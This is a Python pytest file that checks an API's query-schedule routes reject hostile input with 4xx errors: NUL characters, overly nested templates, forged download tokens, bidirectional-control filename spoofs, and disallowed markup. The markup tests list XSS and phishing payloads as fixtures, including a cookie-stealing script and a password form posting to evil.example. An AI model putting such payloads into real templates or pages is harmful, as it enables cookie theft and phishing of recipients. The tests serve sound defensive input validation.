"""Query schedule routes under hostile input (and a deleted schedule's links): expressions nested too deeply for the
template parser, NUL characters anywhere in a body, markup outside the body template's
allowlist, loosely typed numbers and booleans, blank names, stray source fields, a PATCH
by a member who may not read the source, and download tokens whose signed payload is
impossible. Each is a 4xx naming the field (or ``link_invalid``), never a 500. Real
PostgreSQL through the API's own login and moto (the fixtures of the route tests)."""

from __future__ import annotations

import re
from datetime import timedelta
from uuid import UUID, uuid4

import pytest
from itsdangerous import URLSafeTimedSerializer

from tests.api.conftest import NOW, Caller, new_schedule
from tests.api.test_delivery_routes import KEY, app, aws, body, deliver_run, olga, tenants
from timekeeper.db.connection import connect
from timekeeper.platform.directory import add_member, upsert_user
from timekeeper.reporting import reports
from timekeeper.reporting.links import SALT
from timekeeper.schedules import service

#: The route tests' fixtures, used here by name.
FIXTURES = (app, aws, tenants)


def _create(call, tenants, **overrides):
    return call("POST", "/query-schedules", body(tenants, **overrides), as_=olga(tenants))


def test_expressions_nested_too_deeply_for_the_parser_are_a_422_naming_the_template(call, tenants):
    deep = "{{ " + "(" * 100 + "link" + ")" * 100 + " }}"
    for overrides, field in (({"subject_template": deep}, "subject_template"),
                             ({"body_template": "{{ " + "(" * 5000 + "link" + ")" * 5000 + " }}"}, "body_template"),
                             ({"body_template": "{{ " + "not " * 3000 + "link }}"}, "body_template"),
                             ({"body_template": "{" * 20000}, "body_template")):
        refused = _create(call, tenants, **overrides)
        assert (refused.status, refused.body["code"], refused.body.get("field")) == (
            422, "validation_error", field), overrides
    schedule_id = _create(call, tenants).body["id"]
    patched = call("PATCH", f"/query-schedules/{schedule_id}", {"subject_template": deep}, as_=olga(tenants))
    assert (patched.status, patched.body.get("field")) == (422, "subject_template")


def test_a_nul_character_in_any_string_of_a_body_is_a_422_naming_its_field(call, tenants):
    for overrides, field in (({"name": "a\u0000"}, "name"), ({"recipients": ["rita", "vic\u0000"]}, "recipients[1]"),
                             ({"subject_template": "s\u0000"}, "subject_template"),
                             ({"body_template": "<p>\u0000</p>"}, "body_template"),
                             ({"source": {"kind": "query\u0000"}}, "source.kind")):
        refused = _create(call, tenants, **overrides)
        assert (refused.status, refused.body["code"], refused.body.get("field")) == (
            422, "validation_error", field), overrides
    schedule_id = _create(call, tenants).body["id"]
    for change, field in (({"name": "a\u0000"}, "name"), ({"body_template": "a\u0000"}, "body_template"),
                          ({"recipients": ["rita\u0000"]}, "recipients[0]")):
        patched = call("PATCH", f"/query-schedules/{schedule_id}", change, as_=olga(tenants))
        assert (patched.status, patched.body.get("field")) == (422, field), change
    # The rule is the API's, not the delivery routes': any route's body
    generic = call("POST", "/schedules", new_schedule(name="a\u0000"))
    assert (generic.status, generic.body.get("field")) == (422, "name")
    # An escaped backslash before "u0000" is text, not NUL
    fine = call("PATCH", f"/query-schedules/{schedule_id}", {"name": "back\\u0000slash"}, as_=olga(tenants))
    assert fine.status == 200 and fine.body["name"] == "back\\u0000slash"


@pytest.mark.parametrize("markup", [
    "<script>alert(document.cookie)</script>{{ link }}",
    "<form action='https://evil.example/login'><input name='password'></form>",
    "<img src='https://tracker.example/p.gif'>{{ link }}",
    "<a href='https://evil.example/phish'>verify your account</a>",
    "<a href='{{ link }}' onclick='steal()'>file</a>",
    "<p style='display:none'>{{ link }}</p>",
    "<!-- hidden -->{{ link }}",
    "<{{ format }}>{{ link }}",
])
def test_body_template_markup_outside_the_allowlist_is_a_422_naming_the_body(call, tenants, markup):
    refused = _create(call, tenants, body_template=markup)
    assert (refused.status, refused.body.get("field")) == (422, "body_template")


def test_body_template_allowlisted_markup_is_saved(call, tenants):
    allowed = ("<h2>{{ schedule_name }}</h2><p>Hello <strong>{{ recipient_name }}</strong>,<br>"
               "<a href=\"{{ link }}\">download</a></p><ul><li>{{ row_count }} rows</li></ul>")
    assert _create(call, tenants, body_template=allowed).status == 201


def test_numbers_and_booleans_are_strict_names_not_blank_and_sources_without_stray_fields(call, tenants):
    for overrides, field in (({"link_ttl_hours": "5"}, "link_ttl_hours"), ({"link_ttl_hours": True}, "link_ttl_hours"),
                             ({"link_ttl_hours": 5.5}, "link_ttl_hours"),
                             ({"skip_when_empty": "yes"}, "skip_when_empty"), ({"active": "false"}, "active"),
                             ({"source": {"kind": "query", "query_id": str(tenants["query"]), "query_version": "1"}},
                              "source.query_version"),
                             ({"name": "   "}, "name"),
                             ({"source": {"kind": "query", "query_id": str(tenants["query"]),
                                          "report_id": str(uuid4())}}, "source.report_id")):
        refused = _create(call, tenants, **overrides)
        assert (refused.status, refused.body.get("field")) == (422, field), overrides
    schedule_id = _create(call, tenants).body["id"]
    for change, field in (({"name": " \t"}, "name"), ({"link_ttl_hours": "24"}, "link_ttl_hours"),
                          ({"skip_when_empty": 1}, "skip_when_empty")):
        patched = call("PATCH", f"/query-schedules/{schedule_id}", change, as_=olga(tenants))
        assert (patched.status, patched.body.get("field")) == (422, field), change
    assert call("PATCH", f"/query-schedules/{schedule_id}", {"link_ttl_hours": 24, "skip_when_empty": True},
                as_=olga(tenants)).status == 200


def test_a_patch_needs_read_access_to_the_source_like_create(call, tenants, db_url):
    with connect(db_url) as conn, conn.transaction():
        upsert_user(conn, user_id="ria", display_name="Ria", email="ria@x.test", now=NOW)
        add_member(conn, workspace_id=tenants["a"], user_id="ria", roles=["queries:write", "reports:read"],
                   now=NOW - timedelta(days=1))
        report, _ = reports.create_report(conn, workspace_id=tenants["a"], name="Monthly", actor="ria", now=NOW,
                                          definition={"title": "Monthly", "sections": [
                                              {"heading": "Invoices", "query_id": str(tenants["query"]),
                                               "display": "table"}]})
    ria = Caller(user_id="ria", workspace_id=tenants["a"], roles="queries:write,queries:read")
    created = call("POST", "/query-schedules", body(tenants, source={"kind": "report", "report_id": str(report.id)},
                                                     format="pdf", recipients=["ria"]), as_=ria)
    assert created.status == 201
    schedule_id = created.body["id"]
    # Olga may write query schedules but her membership does not grant reports:read
    change = {"body_template": "<p>urgent {{ link }}</p>", "recipients": ["vic"]}
    refused = call("PATCH", f"/query-schedules/{schedule_id}", change, as_=olga(tenants))
    assert (refused.status, refused.body["code"]) == (403, "missing_role")
    unchanged = call("GET", f"/query-schedules/{schedule_id}", as_=ria).body
    assert unchanged["recipients"] == ["ria"] and "urgent" not in unchanged["body_template"]
    assert call("PATCH", f"/query-schedules/{schedule_id}", change, as_=ria).status == 200


@pytest.mark.parametrize("overrides", [{"e": 10 ** 20}, {"e": -(10 ** 20)}, {"e": 10 ** 12}, {"e": 1.5},
                                       {"e": True}, {"u": "rita\u0000"}, {"k": "deliveries/\u0000"}, {"u": 7},
                                       {"w": 123}, {"u": ""}])
def test_a_signed_token_with_an_impossible_payload_is_link_invalid(call, tenants, overrides):
    payload = {"w": str(tenants["a"]), "r": str(uuid4()), "u": "rita", "k": f"deliveries/{tenants['a']}/x.csv",
               "e": int((NOW + timedelta(days=1)).timestamp()), **overrides}
    token = URLSafeTimedSerializer(KEY, salt=SALT).dumps(payload)
    got = call("GET", f"/downloads/{token}", claims=None)
    assert (got.status, got.body["code"]) == (403, "link_invalid")


def test_deleting_a_query_schedule_revokes_the_links_it_sent(call, tenants, publisher, aws, db_url):
    _, ses = aws
    schedule_id = _create(call, tenants, recipients=["rita"]).body["id"]
    assert call("POST", f"/query-schedules/{schedule_id}/run", as_=olga(tenants)).status == 202
    (message,) = [m for m in publisher.sent if str(m.schedule_id) == schedule_id]
    sent = deliver_run(db_url, message, aws[0], ses)
    token = re.search(r"https://api\.test/downloads/([^'\"]+)", sent[0]["html"]).group(1)
    assert call("GET", f"/downloads/{token}", claims=None).status == 302
    with connect(db_url) as conn:
        service.delete_schedule(conn, workspace_id=tenants["a"], schedule_id=UUID(schedule_id), actor="olga",
                                now=NOW)
    revoked = call("GET", f"/downloads/{token}", claims=None)
    assert (revoked.status, revoked.body["code"]) == (403, "link_invalid")


@pytest.mark.parametrize("control", ["\u202e", "\u202d", "\u2066", "\u2067", "\u2068", "\u2069", "\u200f", "\u061c"])
def test_a_bidirectional_control_in_a_delivery_s_name_or_subject_is_a_422_naming_it(call, tenants, control):
    for overrides, field in (({"name": f"Invoices {control}fdp.exe"}, "name"),
                             ({"subject_template": f"{control}{{{{ schedule_name }}}}"}, "subject_template")):
        refused = _create(call, tenants, **overrides)
        assert (refused.status, refused.body.get("field")) == (422, field), overrides
        assert "bidirectional control" in refused.body["message"]
    schedule_id = _create(call, tenants).body["id"]
    patched = call("PATCH", f"/query-schedules/{schedule_id}", {"name": f"a{control}b"}, as_=olga(tenants))
    assert (patched.status, patched.body.get("field")) == (422, "name")
    # Right-to-left text itself is a name like any other
    assert _create(call, tenants, name="فواتير يومية").status == 201
